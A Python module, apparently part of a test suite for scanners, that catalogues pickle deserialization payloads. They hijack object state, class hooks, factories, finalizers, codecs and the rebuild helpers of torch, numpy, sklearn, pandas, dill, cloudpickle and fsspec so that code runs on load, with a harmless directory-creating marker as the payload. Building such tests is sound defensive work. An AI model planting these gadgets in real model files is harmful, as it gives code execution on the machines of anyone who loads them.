"""Payloads that work through objects: state, attributes, hooks, hashing, factories, libraries' own builders."""

from __future__ import annotations

import marshal

from attacks.expressions import Extend, Fill, Members, Name, New, Pairs, State, Supplied, Then, do, name, new
from attacks.mechanism import REVIEW, Mechanism, Target

_O, _H, _B = "changes objects", "waits in an object", "misuses a builder"
_MODERN = ("4", "5", "GLOBAL")
_NAMESPACE = do("argparse.Namespace")


def _later(target: Target) -> object:
    """Makes the marker when it is called without arguments."""
    return do("functools.partial", name("os.mkdir"), target.marker)


def _later_with_one(target: Target) -> object:
    """Makes the marker when it is called with any one argument."""
    return do("functools.partial", name("os.makedirs"), target.marker, 0o777)


def _later_with_any(target: Target) -> object:
    """A function that makes the marker whatever it is called with."""
    (code, *_) = compile(f"lambda *a: {target.source}", "x", "eval").co_consts
    return do(
        "types.FunctionType", do("marshal.loads", marshal.dumps(code)), {"__builtins__": name("builtins.__dict__")}
    )


def _setter(target: Target) -> object:
    """An object is given its own ``__setstate__``, and then state."""
    return State(State(_NAMESPACE, {"__setstate__": name("os.mkdir")}), target.marker)


def _slots(target: Target) -> object:
    """The state of slots is set as attributes, whatever the class has to say about it."""
    return State(State(_NAMESPACE, (None, {"__setstate__": name("os.mkdir")})), target.marker)


def _class_attribute(attribute: str, value: object) -> object:
    """A class is changed; every object of it then behaves otherwise."""
    return State(Name("argparse", "Namespace"), (None, {attribute: value}))


def _tensor(hooks: object) -> object:
    storage = Supplied(("storage", name("torch.FloatStorage"), "0", "cpu", 4))
    return do("torch._utils._rebuild_tensor_v2", storage, 0, (2, 2), (2, 1), True, hooks)


def _torch_file(stream: bytes) -> bytes:
    from zip_builder import archive, checkpoint

    return archive(*checkpoint(stream, storages={"0": bytes(16)}))


def _module_with_hook(target: Target) -> object:
    hooks = Fill(do("collections.OrderedDict"), ((0, _later_with_any(target)),))
    empty = do("collections.OrderedDict")
    state = {
        "training": False,
        "_parameters": {},
        "_buffers": {},
        "_modules": {},
        "_non_persistent_buffers_set": do("builtins.set"),
        "_forward_pre_hooks": hooks,
        **dict.fromkeys(
            (
                "_backward_hooks",
                "_backward_pre_hooks",
                "_forward_hooks",
                "_forward_hooks_with_kwargs",
                "_forward_hooks_always_called",
                "_forward_pre_hooks_with_kwargs",
                "_state_dict_hooks",
                "_state_dict_pre_hooks",
                "_load_state_dict_pre_hooks",
                "_load_state_dict_post_hooks",
            ),
            empty,
        ),
    }
    return State(new("torch.nn.modules.linear.Identity"), state)


MECHANISMS = (
    # Changes
    Mechanism(title="a state setter that is set", family=_O, build=_setter),
    Mechanism(title="a state setter that is set as a slot", family=_O, build=_slots),
    Mechanism(
        title="the hash of a class",
        family=_O,
        build=lambda t: Then((_class_attribute("__hash__", _later(t)), Pairs(((_NAMESPACE, None),)))),
    ),
    Mechanism(
        title="the equality of a class",
        family=_O,
        build=lambda t: Then(
            (
                _class_attribute("__hash__", do("functools.partial", name("builtins.int"))),
                _class_attribute("__eq__", _later_with_one(t)),
                Pairs(((_NAMESPACE, None), (do("argparse.Namespace"), None))),
            )
        ),
    ),
    Mechanism(
        title="the hash of a class, in a set",
        family=_O,
        build=lambda t: Then((_class_attribute("__hash__", _later(t)), Members((_NAMESPACE,)))),
        styles=_MODERN,
    ),
    Mechanism(
        title="the list method of a class",
        family=_O,
        build=lambda t: Then((_class_attribute("append", _later_with_one(t)), Extend(_NAMESPACE, (1,)))),
    ),
    Mechanism(
        title="the extension of an object by its own method",
        family=_O,
        build=lambda t: Extend(State(_NAMESPACE, {"append": name("os.mkdir")}), (t.marker,)),
    ),
    Mechanism(
        title="the item setter of a class",
        family=_O,
        build=lambda t: Then((_class_attribute("__setitem__", _later_with_any(t)), Fill(_NAMESPACE, ((1, 2),)))),
    ),
    Mechanism(
        title="the constructor of a class",
        family=_O,
        build=lambda t: Then((_class_attribute("__new__", _later_with_one(t)), new("argparse.Namespace"))),
        styles=("2", "3", "4", "5"),
    ),
    Mechanism(
        title="setattr",
        family=_O,
        build=lambda t: Then(
            (
                do("builtins.setattr", Name("argparse", "Namespace"), "__hash__", _later(t)),
                Pairs(((_NAMESPACE, None),)),
            )
        ),
    ),
    Mechanism(
        title="a class from type",
        family=_O,
        build=lambda t: do("operator.index", do(do("builtins.type", "T", (), {"__index__": _later(t)}))),
    ),
    Mechanism(
        title="a subclass hook",
        family=_O,
        build=lambda t: do("builtins.type", "T", (do("builtins.type", "B", (), {"__init_subclass__": _later(t)}),), {}),
    ),
    # Objects that wait
    Mechanism(
        title="a default factory",
        family=_H,
        build=lambda t: do("operator.getitem", do("collections.defaultdict", _later(t)), 1),
    ),
    Mechanism(
        title="a function for the end of the process",
        family=_H,
        build=lambda t: do("atexit.register", name("os.mkdir"), t.marker),
    ),
    Mechanism(
        title="a finaliser",
        family=_H,
        build=lambda t: do("weakref.finalize", _NAMESPACE, name("os.mkdir"), t.marker),
    ),
    Mechanism(
        title="a search function for codecs",
        family=_H,
        build=lambda t: Then((do("codecs.register", name("os.mkdir")), do("codecs.lookup", t.digits))),
    ),
    Mechanism(
        title="a codec that is looked up by a trusted call",
        family=_H,
        build=lambda t: Then((do("codecs.register", name("os.mkdir")), do("_codecs.encode", "x", t.digits))),
    ),
    Mechanism(
        title="a hook for numbers in JSON",
        family=_H,
        build=lambda t: do(
            State(
                new("functools.partial", name("builtins.print")),
                (name("json.loads"), (t.digits,), {"parse_int": name("os.mkdir")}, None),
            )
        ),
        styles=("2", "3", "4", "5"),
    ),
    Mechanism(
        title="a mock with a side effect",
        family=_H,
        build=lambda t: do(do("unittest.mock.Mock", None, _later(t))),
    ),
    Mechanism(
        title="a hook of a module that runs when it is called",
        family=_H,
        build=_module_with_hook,
        loader="torch, then called",
        file="m.pt",
        pack=_torch_file,
        needs=("torch",),
        styles=("2", "3", "4"),
    ),
    Mechanism(
        title="a backward hook that runs with the gradient",
        family=_H,
        build=lambda t: _tensor(Fill(do("collections.OrderedDict"), ((0, _later_with_one(t)),))),
        loader="torch, then backwards",
        file="m.pt",
        pack=_torch_file,
        needs=("torch",),
        styles=("2", "3", "4"),
    ),
    Mechanism(
        title="a transformer with any function",
        family=_H,
        build=lambda t: State(
            new("sklearn.preprocessing._function_transformer.FunctionTransformer"),
            {
                "func": name("os.mkdir"),
                "kw_args": None,
                "validate": False,
                "accept_sparse": False,
                "check_inverse": False,
                "inverse_func": None,
                "feature_names_out": None,
                "inv_kw_args": None,
            },
        ),
        loader="pickle, then transformed",
        needs=("sklearn",),
        styles=("2", "3", "4", "5"),
    ),
    # Builders of libraries
    Mechanism(
        title="another function for a tensor's type",
        family=_B,
        build=lambda t: do(
            "torch._tensor._rebuild_from_type_v2", name("os.mkdir"), name("torch.Tensor"), (t.marker,), {}
        ),
        needs=("torch",),
    ),
    Mechanism(
        title="a storage whose id holds a call",
        family=_B,
        build=lambda t: Supplied(("storage", name("torch.FloatStorage"), "0", do("os.mkdir", t.marker), 1)),
        needs=("torch",),
        styles=("2", "3", "4", "5"),
    ),
    Mechanism(
        title="an element of an array of objects",
        family=_B,
        build=lambda t: State(
            do("numpy._core.multiarray._reconstruct", name("numpy.ndarray"), (0,), b"b"),
            (1, (1,), do("numpy.dtype", "O8", False, True), False, [do("os.mkdir", t.marker)]),
        ),
        needs=("numpy",),
        styles=("3", "4", "5", "OBJ"),
    ),
    Mechanism(
        title="a type's own constructor in place of a tensor's",
        family=_B,
        build=lambda t: do("torch._utils._rebuild_parameter", do("os.mkdir", t.marker), False, None),
        needs=("torch",),
    ),
    Mechanism(
        title="keywords for a class's constructor",
        family=_B,
        build=lambda t: New(Name("argparse", "Namespace"), (), {"a": do("os.mkdir", t.marker)}),
        styles=_MODERN,
    ),
    Mechanism(
        title="a graph module by its code",
        family=_B,
        build=lambda t: do(
            "torch.fx.graph_module.reduce_graph_module",
            {"_code": f"x = {t.source}\ndef forward(self): pass\n"},
            "",
        ),
        needs=("torch",),
    ),
    Mechanism(
        title="an index of pandas from calls",
        family=_B,
        build=lambda t: do(
            "pandas.core.indexes.base._new_Index", name("pandas.Index"), {"data": [do("os.mkdir", t.marker)]}
        ),
        needs=("pandas",),
    ),
    Mechanism(
        title="a class looked up by dill",
        family=_B,
        build=lambda t: do(do("dill._dill._get_attr", do("dill._dill._import_module", "os"), "mkdir"), t.marker),
        needs=("dill",),
        at_least=REVIEW,
    ),
    Mechanism(
        title="a module imported by cloudpickle",
        family=_B,
        build=lambda t: do(do("builtins.getattr", do("cloudpickle.cloudpickle.subimport", "os"), "mkdir"), t.marker),
        needs=("cloudpickle",),
    ),
    Mechanism(
        title="a file system that is asked to write",
        family=_B,
        build=lambda t: do(
            Name("fsspec.implementations.local", "LocalFileSystem.touch"),
            do("fsspec.implementations.local.LocalFileSystem"),
            t.marker,
        ),
        needs=("fsspec",),
        styles=_MODERN,
        at_least=REVIEW,
    ),
    Mechanism(
        title="arguments of a trainer from a call",
        family=_B,
        build=lambda t: State(new("argparse.Namespace"), {"output_dir": do("os.mkdir", t.marker)}),
        styles=("2", "3", "4", "5"),
    ),
)
